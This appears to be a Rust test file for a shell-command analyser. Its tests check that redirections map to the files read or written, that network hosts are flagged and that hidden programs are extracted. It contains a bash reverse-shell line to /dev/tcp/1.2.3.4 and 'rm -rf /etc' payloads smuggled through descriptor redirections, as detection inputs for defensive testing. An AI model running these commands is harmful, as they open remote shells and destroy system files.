//! Files and hosts of redirections.

use super::{files, view};

#[test]
fn lists_files_of_redirections() {
    let table = [
        ("a > x", "write x"),
        ("a >> x 2> y", "write x ; write y"),
        ("a < x", "read x"),
        ("a &> x", "write x"),
        ("a &>> x", "write x"),
        ("a >| x", "write x"),
        ("a <> x", "read x ; write x"),
        ("a >& x", "write x"),
        ("a > /dev/null 2>&1", ""),
        ("a 2>&- <&3", ""),
        ("> x", "write x"),
        ("a > \"$X/y\"", "write …/y"),
        ("{ a; b; } > x", "write x"),
        ("a > ~/x", "write /home/u/x"),
        ("a > /dev/fd/3 > /dev/tty", ""),
    ];
    for (line, expected) in table {
        assert_eq!(files(line).join(" ; "), expected, "{line}");
    }
}

#[test]
fn names_the_program_of_a_redirection() {
    let found = view("cd d; a $(b) > x");
    assert_eq!(found.files[0].by, Some(2));
    assert_eq!(found.files[0].base, super::Directory::Path("d".to_owned()));
    assert_eq!(view("> x").files[0].by, None);
}

#[test]
fn lists_hosts_that_bash_connects_to() {
    let view = view("bash -i >& /dev/tcp/1.2.3.4/99 0>&1");
    assert_eq!((view.hosts[0].scheme.as_str(), view.hosts[0].host.as_str()), ("tcp", "1.2.3.4"));
    assert!(view.files.is_empty());
}

#[test]
fn runs_what_was_opened_under_another_number() {
    for line in [
        "bash /dev/fd/3 3<<< 'rm -rf /etc'",
        "exec 3<<< 'rm -rf /etc'; bash <&3",
        "bash /dev/fd/4 4<<E\nrm -rf /etc\nE",
    ] {
        assert_eq!(super::programs(line).last().map(String::as_str), Some("rm -rf /etc"), "{line}");
    }
}
